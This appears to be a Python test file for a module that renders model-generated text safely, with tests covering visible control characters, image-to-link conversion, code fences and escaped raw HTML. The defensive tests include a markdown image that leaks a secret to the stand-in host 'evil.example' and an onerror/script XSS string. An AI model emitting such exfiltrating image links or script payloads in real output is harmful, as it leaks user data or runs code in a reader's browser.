"""Making model text safe to render: controls shown, images made links, code untouched."""

from __future__ import annotations

from app.render import safe_markdown, typed_markdown, visible_controls


def test_control_characters_become_visible_symbols_and_newlines_are_normalised() -> None:
    assert visible_controls("a\x00b\x07c\x1bd\x7fe\x85f") == "a␀b␇c␛d␡e\ufffdf"
    assert visible_controls("one\r\ntwo\rthree\tfour\n") == "one\ntwo\nthree\tfour\n"


def test_images_become_links_so_the_browser_fetches_nothing() -> None:
    text = "See ![chart](http://evil.example/leak?q=secret) and ![a](b)."
    assert safe_markdown(text) == ("See [image: chart](http://evil.example/leak?q=secret) and "
                                   "[image: a](b).")


def test_code_is_left_exactly_as_written() -> None:
    text = ("Use `![x](y)` like this:\n\n```markdown\n![x](y)\n\x00 stays? no: shown\n```\n"
            "~~~\n![x](y)\n~~~\nafter ![x](y)")
    rendered = safe_markdown(text)
    assert "`![x](y)`" in rendered  # inline code
    assert "```markdown\n![x](y)\n" in rendered  # fenced with backticks
    assert "~~~\n![x](y)\n~~~" in rendered  # fenced with tildes
    assert rendered.endswith("after [image: x](y)")  # outside code again
    assert "\x00" not in rendered  # controls are shown even in code: they are not code


def test_a_fence_closes_only_with_the_same_kind_and_at_least_its_length() -> None:
    text = "````\n```\n![x](y)\n````\n![x](y)"
    assert safe_markdown(text) == "````\n```\n![x](y)\n````\n[image: x](y)"


def test_an_unclosed_fence_keeps_the_rest_as_code_like_markdown_does() -> None:
    assert safe_markdown("```\n![x](y)") == "```\n![x](y)"


def test_unmatched_backticks_do_not_hide_an_image() -> None:
    assert safe_markdown("a ` b ![x](y)") == "a ` b [image: x](y)"


def test_raw_html_is_left_for_streamlit_to_show_as_text() -> None:
    # st.markdown without unsafe_allow_html escapes it (the browser test proves it runs
    # nothing); changing it here would show backslashes in the answer.
    text = '<img src=x onerror="alert(1)"><script>alert(2)</script>'
    assert safe_markdown(text) == text


def test_typed_text_keeps_its_line_breaks_but_code_is_untouched() -> None:
    typed = "Dear model,\nplease read:\n\n```\ncode line\nnext\n```\nthanks\n![x](y)"
    assert typed_markdown(typed) == ("Dear model,  \nplease read:\n\n```\ncode line\nnext\n"
                                     "```\nthanks  \n[image: x](y)")
